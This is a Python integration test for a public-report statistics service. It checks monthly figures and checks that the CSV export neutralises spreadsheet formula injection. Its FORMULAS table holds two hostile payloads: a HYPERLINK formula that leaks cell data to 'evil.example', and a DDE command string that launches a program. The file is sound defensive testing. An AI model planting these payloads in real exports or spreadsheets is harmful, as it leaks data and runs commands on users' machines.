"""The stats consumer wired as the topology says: events reach its queue and move the public figures."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

from infra.local.provision import Resources
from services.sla.handlers.stats_api import directory as stats_directory
from shared.working_time import TZ
from tests.integration.test_flow import submit
from tests.support import api_call, pump, sign_in, staff_call


def test_a_submitted_and_assigned_report_shows_in_this_months_figures(aws: Resources, sqs: Any) -> None:
    submit()
    pump(sqs, aws, "routing")
    # Report.Submitted, and Report.Assigned with the Sla.Started of its commit (counted once)
    assert pump(sqs, aws, "stats") == 3
    month = datetime.now(UTC).astimezone(TZ).strftime("%Y-%m")
    status, body = api_call(
        "GET", "/v1/stats", route="/v1/stats", function="stats-api", query=f"period={month}"
    )
    assert status == 200
    assert (body["province"]["received"], body["province"]["assigned"], body["province"]["open"]) == (1, 1, 1)
    [agency] = body["by_agency"]
    assert (agency["id"], agency["name"], agency["received"]) == ("dien-luc", "Công ty Điện lực Cà Mau", 1)
    # Without a period: this month.
    assert (
        api_call("GET", "/v1/stats", route="/v1/stats", function="stats-api")[1]["province"]["received"] == 1
    )


FORMULAS = {
    "agency": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "category": "+cmd|' /C calc'!A0",
}


def test_names_admins_edit_come_out_of_the_csv_as_text_not_formulas(
    aws: Resources, sqs: Any, pool: dict[str, Any]
) -> None:
    admin = sign_in(pool, "adm")
    agency = {"name": FORMULAS["agency"], "kind": "utility", "emails": ["dienluc@phananh-demo.vn"]}
    assert (
        staff_call("PUT", "/v1/admin/agencies/dien-luc", agency, admin, route="/v1/admin/agencies/{id}")[0]
        == 200
    )
    _, categories = staff_call("GET", "/v1/admin/categories", token=admin)
    [dien] = [c for c in categories["items"] if c["code"] == "dien"]
    category = {k: dien[k] for k in ("name_en", "default_urgency", "answer_days", "fields")}
    category["name_vi"] = FORMULAS["category"]
    assert (
        staff_call("PUT", "/v1/admin/categories/dien", category, admin, route="/v1/admin/categories/{id}")[0]
        == 200
    )
    stats_directory.clear_cache()
    submit()
    pump(sqs, aws, "routing")
    pump(sqs, aws, "stats")
    month = datetime.now(UTC).astimezone(TZ).strftime("%Y-%m")
    status, text = api_call(
        "GET",
        "/v1/stats",
        route="/v1/stats",
        function="stats-api",
        query=f"period={month}&format=csv",
        text=True,
    )
    assert status == 200
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULAS["agency"] in cells and "'" + FORMULAS["category"] in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
